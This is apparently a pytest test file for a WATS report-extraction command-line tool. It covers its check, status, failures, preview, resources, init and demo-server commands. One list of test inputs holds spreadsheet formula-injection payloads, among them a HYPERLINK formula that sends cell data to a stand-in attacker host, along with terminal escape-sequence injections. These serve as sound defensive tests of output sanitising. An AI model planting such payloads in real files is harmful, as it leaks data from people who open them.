"""check, status, failures, preview, resources, json-schema, init and demo-server."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import timedelta

import duckdb
import pytest

from wats_extract.cli import resources, status
from wats_extract.fake.app import App
from wats_extract.fake.faults import Faults
from wats_extract.fake.plant.data import Plant
from wats_extract.fake.server import serve
from wats_extract.masking import harmless
from wats_extract.resources.catalogue import DOMAINS, RESOURCES
from wats_extract.state.tables import FAILURES

from .conftest import SECRET, Desk, Serving, desk_in


def broken(*kinds: str) -> Faults:
    return Faults(broken=len(kinds), broken_kinds=kinds)


@pytest.fixture(scope="module")
def after_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Desk, App]]:
    """A desk whose pipeline has run, and its server; two of twenty reports have failed."""
    app = App(Plant(20), token=SECRET, faults=broken("404", "garbage"))
    desk = desk_in(tmp_path_factory.mktemp("after_run"))
    with serve(app) as server:
        desk.read(server.url)
        assert desk.wats("run", desk.pipeline(), "-q").code == 3
        yield desk, app


# ── check ───────────────────────────────────────────────────────────────────────────────────────


def test_check_passes(desk: Desk, serving: Serving) -> None:
    app = serving(20)
    said = desk.wats("check", desk.pipeline())
    assert (said.code, said.err) == (0, "")
    assert [line.split()[:2] for line in said.out.splitlines()] == [
        ["✓", "file"],
        ["✓", "server"],
        ["✓", "token"],
        ["✓", "destination"],
    ]
    assert app.total == 2


def test_check_reports_every_problem(desk: Desk, serving: Serving) -> None:
    serving(20)
    desk.env["WATS_TOKEN"] = "b3RoZXItdG9rZW4"
    (desk.folder / "data").write_text("in the way", encoding="utf-8")
    said = desk.wats("check", desk.pipeline())
    assert said.code == 2
    assert [line for line in said.out.splitlines() if line[0] == "✗"] == ["✗ token", "✗ destination"]
    assert said.err.count("Error: ") == 2


def test_check_without_a_token(desk: Desk) -> None:
    said = desk.wats("check", desk.pipeline(url="https://example.wats.com"))
    assert said.code == 2
    assert "token for https://example.wats.com" in said.err


def test_check_of_a_destination_that_cannot_be_written(desk: Desk) -> None:
    (desk.folder / "data").write_text("in the way", encoding="utf-8")
    desk.env |= {"PYTHONUTF8": "0", "PYTHONIOENCODING": "ascii"}
    said = desk.wats("check", desk.pipeline())
    assert said.code == 1
    assert said.out.startswith("ok file"), "letters, because the stream cannot encode ✓"
    assert said.out.splitlines()[-1] == "FAILED destination"


# ── status ──────────────────────────────────────────────────────────────────────────────────────


def test_status_shows_runs_cursors_rows_and_failures(after_run: tuple[Desk, App]) -> None:
    desk, _ = after_run
    out = desk.wats("status", "p.yaml").out
    words = [line.split() for line in out.splitlines()]
    assert "✓ The last run completed, with 2 open failures." in out
    assert "overlap_from" in out
    assert ["reports", "18"] in words
    assert ["reports", "NOT_FOUND", "1"] in words


def test_status_before_the_first_run(desk: Desk) -> None:
    place = desk.folder / "data" / "wats.duckdb"
    assert f"Nothing has been loaded into {place} yet" in desk.wats("status", desk.pipeline()).out
    assert not (desk.folder / "data").exists()


def test_status_while_another_program_has_the_duckdb_file_open(desk: Desk) -> None:
    with duckdb.connect(desk.folder / "wats.duckdb"):
        said = desk.wats("status", desk.pipeline(path="wats.duckdb"))
    assert said.code == 1
    assert said.err.startswith(f"Error: {desk.folder / 'wats.duckdb'}")
    assert "close the program" in said.err


def test_status_after_a_run_that_stopped_early(desk: Desk, serving: Serving) -> None:
    serving(20)
    file = desk.pipeline(source=", max_requests: 10", kind="parquet", path="data/wats")
    assert desk.wats("run", file, "-q").code == 4
    out = desk.wats("status", file).out
    assert "✗ The last run did not complete: incomplete" in out
    assert "max_requests (10)" in out


@pytest.mark.parametrize("kind", ["duckdb", "parquet"])
def test_status_while_a_run_is_in_progress_and_after_it_was_killed(
    desk: Desk, serving: Serving, kind: str
) -> None:
    app = serving(60, latency=0.05)
    place = {"duckdb": "data/wats.duckdb", "parquet": "data/wats"}[kind]
    file = desk.pipeline(kind=kind, path=place, source=", max_in_flight: 1")
    run = desk.start("run", file, "-q")
    while app.total < 3:
        assert run.poll() is None
        time.sleep(0.01)
    said = desk.wats("status", file)
    assert f"process {run.pid} on " in said.out + said.err
    assert re.search(r"\b\d s ago", said.out + said.err)
    if kind == "duckdb":
        assert said.code == 6
        assert "data/wats.duckdb cannot be read until the run ends" in said.err
    else:
        assert said.code == 0
        assert said.out.splitlines()[1].startswith("- A run is in progress: ")
    assert run.poll() is None

    run.kill()
    run.communicate()
    out = desk.wats("status", file).out
    assert "The last run did not complete: its process was killed" in out
    assert "The next run resumes from its last commit." in out
    desk.wats("run", file, "-q")
    lines = desk.wats("status", file).out.splitlines()
    assert "The last run completed." in lines[1]
    assert [line.split()[3] for line in lines if " run " in line and "killed" in line] == ["killed"]


@pytest.mark.parametrize("kind", ["duckdb", "parquet"])
def test_status_and_failures_need_no_token(desk: Desk, serving: Serving, kind: str) -> None:
    serving(20)
    file = desk.pipeline(kind=kind, path="data/wats")
    desk.wats("run", file, "-q")
    del desk.env["WATS_TOKEN"], desk.env["WATS_URL"]
    for command in (["status", file], ["status", file, "--json"], ["failures", file]):
        assert desk.wats(*command).code == 0


@pytest.mark.parametrize("kind", ["duckdb", "parquet"])
def test_status_shows_a_run_that_could_write_nothing_as_a_gap(
    desk: Desk, serving: Serving, kind: str
) -> None:
    serving(20)
    file = desk.pipeline(kind=kind, path="data/wats")
    before = json.loads(desk.wats("status", file, "--json").out)
    assert (before["last_run"], before["age_seconds"], before["runs"]) == (None, None, [])
    desk.wats("run", file, "-q")
    first = json.loads(desk.wats("status", file, "--json").out)
    assert first["last_run"]["status"] == "succeeded"
    assert first["tables"]["report_headers"] == 20
    assert first["cursors"]
    assert first["open_failures"] == 0
    locked = desk.folder / "data" / ("wats" if kind == "duckdb" else "wats/_wats/.commit.lock")
    moved = locked.rename(desk.folder / "moved")
    locked.mkdir()  # nothing can be written, whoever runs it
    assert desk.wats("run", file, "-q").code == 1
    locked.rmdir()
    moved.rename(locked)
    second = json.loads(desk.wats("status", file, "--json").out)
    assert second["last_run"] == first["last_run"]
    assert second["age_seconds"] > first["age_seconds"] > 0
    out = desk.wats("status", file).out
    assert re.search(r"^It began \d+ seconds? ago\.$", out, re.MULTILINE)


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0, "0 seconds ago"),
        (119, "119 seconds ago"),
        (120, "2 minutes ago"),
        (7_199, "119 minutes ago"),
        (7_200, "2 hours ago"),
        (172_800, "2 days ago"),
        (-2, "in the future: the clock of that run, or the clock of this machine, is wrong"),
    ],
)
def test_an_age_is_shown_in_its_largest_unit(seconds: int, text: str) -> None:
    assert status._ago(timedelta(seconds=seconds)) == text


# ── failures ────────────────────────────────────────────────────────────────────────────────────


def test_failures_in_three_formats(after_run: tuple[Desk, App]) -> None:
    desk, app = after_run
    heading, *rows = desk.wats("failures", "p.yaml").out.splitlines()
    assert heading.split() == ["key", "code", "stage", "attempts", "last", "failed", "(UTC)", "message"]
    assert {row.split()[0] for row in rows} == set(app.faults.broken)
    result = json.loads(desk.wats("failures", "p.yaml", "--format", "json").out)
    assert [list(row) for row in result] == [FAILURES.schema.names] * 2
    listed = list(csv.DictReader(io.StringIO(desk.wats("failures", "p.yaml", "--format", "csv").out)))
    assert [row["error_code"] for row in listed] == [row["error_code"] for row in result]
    assert listed[0]["last_failed_at"] == result[0]["last_failed_at"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "-2",
    "@SUM(A1)",
    " \t=1",
    "\uff1d1",
    "\x1b]0;owned\x07\x1b[2J",
    "\x9b2J",
    "ad\u200bmin\U000e0041\u202e",
    "back\rforth",
]


@pytest.mark.parametrize("kind", ["csv", "json", "table"])
@pytest.mark.parametrize("text", HOSTILE)
def test_failures_are_harmless_in_a_terminal_and_in_a_spreadsheet(
    after_run: tuple[Desk, App], kind: str, text: str
) -> None:
    desk, _ = after_run
    with duckdb.connect(desk.folder / "data/wats.duckdb") as tables:
        tables.execute("UPDATE _wats_failures SET message = ?, hint = ?", [text, "-harmless"])
    out = desk.wats("failures", "p.yaml", "--format", kind).out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\U000e0041]", out)
    if kind == "json":
        assert [row["message"] for row in json.loads(out)] == [text] * 2
    if kind == "csv":
        rows = list(csv.DictReader(io.StringIO(out)))
        assert [row["hint"] for row in rows] == ["'-harmless"] * 2
        assert all(row["attempts"].isdigit() for row in rows)
        shown = {row["message"] for row in rows}
        assert shown == {f"'{text}" if text.strip()[0] in "=+-@\uff1d" else harmless(text)}


def test_no_failures(desk: Desk) -> None:
    assert desk.wats("failures", desk.pipeline()).out == "There are no failures.\n"


# ── preview, resources, json-schema ─────────────────────────────────────────────────────────────


def test_preview(desk: Desk, serving: Serving) -> None:
    app = serving(20)
    file = desk.pipeline(resources="[{name: report_headers}]")
    heading, *rows = desk.wats("preview", file, "report_headers", "-n", "3").out.split("\n\n")[0].splitlines()
    assert heading.split()[:2] == ["uuid", "serial_number"]
    assert [row.split()[0] for row in rows] == app.plant.uuids()[:3]
    steps = desk.wats("preview", file, "reports", "--table", "steps", "-n", "2")
    assert steps.out.startswith("report_uuid")
    assert not (desk.folder / "data").exists()


def test_preview_of_an_empty_and_of_an_unknown_resource(desk: Desk, serving: Serving) -> None:
    serving(0)
    file = desk.pipeline()
    assert desk.wats("preview", file, "reports").out == "There are no rows.\n"
    assert "did you mean 'reports'" in desk.wats("preview", file, "report").err


def test_preview_reports_failures(desk: Desk, serving: Serving) -> None:
    app = serving(1, faults=broken("404"))
    said = desk.wats("preview", desk.pipeline(), "reports")
    assert said.err.startswith(f"Failed: {app.plant.uuid(0)}: HTTP 404")


def test_resources_are_listed_by_domain(desk: Desk) -> None:
    out = desk.wats("resources").out
    titles, *lines = [line for line in out.splitlines() if line]
    rows = {line.split()[0]: line for line in lines}
    assert titles.split() == ["name", "route", "paging", "cap", "cursor", "key", "tables"]
    assert [line.split()[0].rstrip(":") for line in lines[:-3]] == [
        name for domain, group in DOMAINS.items() for name in (domain, *(each.name for each in group))
    ]
    assert "GET Report/Query/Header   " in rows["report_headers"]
    assert "   keyset   " in rows["report_headers"]
    assert "   10,000   " in rows["report_headers"]
    assert {name for name in RESOURCES if rows[name].split()[1] == "*"} == {
        name for name, each in RESOURCES.items() if each.unproven
    }


def test_resources_shows_all_columns_of_one(desk: Desk) -> None:
    out = desk.wats("resources", "reports").out
    for table in RESOURCES["reports"].tables:
        for column in table.columns:
            assert column.name in out
            assert column.doc in out
    assert "timestamp[us, UTC]" in out
    assert "list<double>" in out


def test_resources_shows_all_details_of_one(desk: Desk) -> None:
    said = desk.wats("resources", "measurements").out.partition("\n\n")[0]
    facts = dict(line.split(":", 1) for line in said.splitlines()[1:])
    assert {name: text.strip() for name, text in facts.items()} == {
        "route": "POST /api/App/Measurements",
        "paging": "time windows",
        "cap": "10,000 rows per request",
        "key": "measurement_key",
        "cursor": "start",
        "required in filter": "part_number, test_operation, measurement_path",
        "filter": f"{', '.join(RESOURCES['measurements'].filters)} (WATS filter)",
        "options": "since, until",
        "unproven": RESOURCES["measurements"].unproven,
    }
    assert "The vendor does not support this route" in desk.wats("resources", "alarms").out


def test_resources_as_json(desk: Desk) -> None:
    result = json.loads(desk.wats("resources", "--json").out)["resources"]
    assert list(result) == list(RESOURCES)
    headers = result["report_headers"]
    assert (headers["route"], headers["paging"], headers["cap"]) == (
        "/api/Report/Query/Header",
        "keyset",
        10_000,
    )
    assert headers["tables"]["report_headers"]["columns"]["start"] == "timestamp[us, UTC]"
    assert (headers["internal"], result["alarms"]["internal"]) == (False, True)
    assert (headers["incremental"], result["users"]["incremental"]) == (True, False)
    assert result["measurements"]["required"] == list(RESOURCES["measurements"].required)
    one = json.loads(desk.wats("resources", "alarms", "--json").out)["resources"]
    assert one == {"alarms": result["alarms"]}


class Screen(io.StringIO):
    """A text stream that claims to be a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("width", "titles"),
    [
        (80, "name route paging"),
        (100, "name route paging cap cursor"),
        (140, "name route paging cap cursor key"),
        (200, "name route paging cap cursor key tables"),
    ],
)
def test_resources_fit_the_width_of_a_terminal(
    monkeypatch: pytest.MonkeyPatch, width: int, titles: str
) -> None:
    screen = Screen()
    monkeypatch.setattr(sys, "stdout", screen)
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("TERM", "xterm")
    resources.command.callback(None, as_json=False)  # type: ignore[misc]
    lines = re.sub(r"\x1b\[[0-9;]*m", "", screen.getvalue()).splitlines()
    assert lines[0].split() == titles.split()
    assert max(map(len, lines)) <= width


def test_json_schema(desk: Desk) -> None:
    schema = json.loads(desk.wats("json-schema").out)
    assert schema["$schema"].startswith("https://json-schema.org/")


# ── init ────────────────────────────────────────────────────────────────────────────────────────


def test_init_writes_a_pipeline_that_runs(desk: Desk) -> None:
    del desk.env["WATS_URL"]
    said = desk.wats("init", "new folder")
    assert said.code == 0
    assert 'cd "new folder"' in said.out
    folder = desk.folder / "new folder"
    assert {path.name for path in folder.iterdir()} == {"pipelines", ".env.example", ".gitignore"}
    desk.folder = folder
    run = ["run", "pipelines/reports.yaml", "--only", "report_headers", "--limit", "5", "--json"]
    assert desk.wats(*run).code == 2
    done = desk.wats(*run, "--demo")
    result = json.loads(done.out)
    assert (done.code, result["resources"]["report_headers"]["items"]) == (0, 5)
    assert result["destination"] == str(folder / "data" / "wats.duckdb")


def test_init_never_overwrites(desk: Desk) -> None:
    (desk.folder / ".gitignore").write_text("build/\n", encoding="utf-8")
    pipeline = desk.folder / "pipelines" / "reports.yaml"
    pipeline.parent.mkdir()
    pipeline.write_text("mine", encoding="utf-8")
    said = desk.wats("init")
    assert said.code == 0
    assert pipeline.read_text(encoding="utf-8") == "mine"
    assert "kept     pipelines/reports.yaml".replace("/", os.sep) in said.out
    assert (desk.folder / ".gitignore").read_text(encoding="utf-8") == "build/\n"
    assert "so that no token is ever committed" in said.out


def test_init_in_a_folder_that_cannot_be_created(desk: Desk) -> None:
    (desk.folder / "file").write_text("", encoding="utf-8")
    said = desk.wats("init", "file")
    assert (said.code, said.out) == (2, "")
    assert said.err.startswith("Error: ")


# ── demo-server ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no POSIX signals")
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_demo_server_runs_until_a_signal(desk: Desk, number: signal.Signals) -> None:
    process = desk.start("demo-server", "--reports", "7", "--token", "abcdefgh", "--page-cap", "5")
    first = process.stdout.readline()
    assert first.startswith("WATS server with 7 reports at http://127.0.0.1:")
    url = first.split(" at ")[1].split(",")[0]
    process.stdout.readline()
    assert process.stdout.readline() == f"  export WATS_URL={url} WATS_TOKEN=abcdefgh\n"
    assert len(json.loads(fetched(f"{url}/api/Report/Query/Header", "abcdefgh"))) == 5
    with pytest.raises(urllib.error.HTTPError, match="401") as refused:
        fetched(f"{url}/api/App/Version", "other")
    refused.value.close()
    process.send_signal(number)
    assert desk.finished(process).code == 0


def test_demo_server_on_a_taken_port(desk: Desk, serving: Serving) -> None:
    serving(1)
    said = desk.wats("demo-server", "--port", desk.env["WATS_URL"].rpartition(":")[2])
    assert (said.code, said.out) == (2, "")
    assert "Error: cannot listen on port" in said.err


def test_demo_server_with_zero_reports() -> None:
    """An empty plant is falsy, but must not be replaced by the default one."""
    assert len(App(Plant(0)).plant) == 0


def test_demo_server_refuses_an_unknown_fault(desk: Desk) -> None:
    said = desk.wats("demo-server", "--faults", "frequency=1")
    assert said.code == 2
    assert "rate, kinds" in said.err


def fetched(url: str, token: str) -> bytes:
    request = urllib.request.Request(url, headers={"Authorization": f"Basic {token}"})
    with urllib.request.urlopen(request) as response:
        body: bytes = response.read()
        return body


def test_the_secret_is_the_servers_token(desk: Desk, serving: Serving) -> None:
    """Otherwise the check that no command prints the token would prove nothing."""
    serving(1)
    request = urllib.request.Request(
        f"{desk.env['WATS_URL']}/api/App/Version", headers={"Authorization": f"Basic {SECRET}"}
    )
    with urllib.request.urlopen(request) as response:
        assert response.status == 200
